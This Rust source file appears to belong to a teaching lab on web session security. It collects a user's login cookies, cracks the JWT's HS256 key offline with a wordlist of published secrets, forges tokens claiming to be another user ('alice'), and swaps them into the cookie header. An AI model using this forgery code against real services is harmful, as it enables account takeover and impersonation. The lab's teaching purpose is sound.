//! forged-cookie's tools, as a student uses them: bob's cookies after his
//! login, tokens saying `sub: alice` signed with the key cracked from bob's
//! own token (`sessionlab_attack::tokens`, the JWT tool they would use), and
//! bob's cookies with a forged token in place of his.

use serde_json::{Map, Value, json};
use sessionlab_attack::tokens;

/// Every `name=value` the response set (not the ones it cleared).
pub fn set_cookies(response: &reqwest::Response) -> Vec<String> {
    response
        .headers()
        .get_all("set-cookie")
        .iter()
        .filter_map(|v| v.to_str().ok())
        .filter_map(|v| v.split(';').next())
        .map(|pair| pair.trim().to_owned())
        .filter(|pair| !pair.ends_with('='))
        .collect()
}

/// The cookies bob holds after his login answered with `login`: what it
/// set, and the anonymous session's cookie he came with unless it set a
/// new one of that name.
pub fn bobs_cookies(login: &reqwest::Response, anonymous: Option<String>) -> Vec<String> {
    let mut cookies = set_cookies(login);
    let name = |pair: &str| pair.split_once('=').map(|(n, _)| n.to_owned());
    if let Some(anonymous) = anonymous
        && !cookies.iter().any(|c| name(c) == name(&anonymous))
    {
        cookies.push(anonymous);
    }
    cookies
}

/// The claims of a token that says it is alice's, issued now.
pub fn alice_claims() -> Map<String, Value> {
    let Value::Object(claims) =
        json!({"sub": "alice", "iat": time::OffsetDateTime::now_utc().unix_timestamp()})
    else {
        unreachable!("an object literal")
    };
    claims
}

/// Tokens saying `sub: alice`: signed with the key cracked offline, with
/// the lab's wordlist, from bob's token in `cookies`; without a token to
/// crack (server-side sessions, or no login at all), one signed with each
/// published secret.
pub fn forged_tokens(cookies: &[String]) -> Vec<String> {
    let mine = cookies
        .iter()
        .find_map(|c| c.strip_prefix("token="))
        .and_then(tokens::decode);
    let cracked = mine
        .as_ref()
        .and_then(|jwt| tokens::crack(jwt, tokens::wordlist(tokens::PUBLISHED_SECRETS)));
    let keys: Vec<&str> = match cracked {
        Some(key) => vec![key],
        None => tokens::wordlist(tokens::PUBLISHED_SECRETS).collect(),
    };
    keys.into_iter()
        .map(|key| tokens::sign_hs256(&alice_claims(), key.as_bytes()))
        .collect()
}

/// bob's cookies but his token, and `token` as the token cookie.
pub fn with_token(cookies: &[String], token: &str) -> String {
    let mut pairs: Vec<String> = cookies
        .iter()
        .filter(|c| !c.starts_with("token="))
        .cloned()
        .collect();
    pairs.push(format!("token={token}"));
    pairs.join("; ")
}
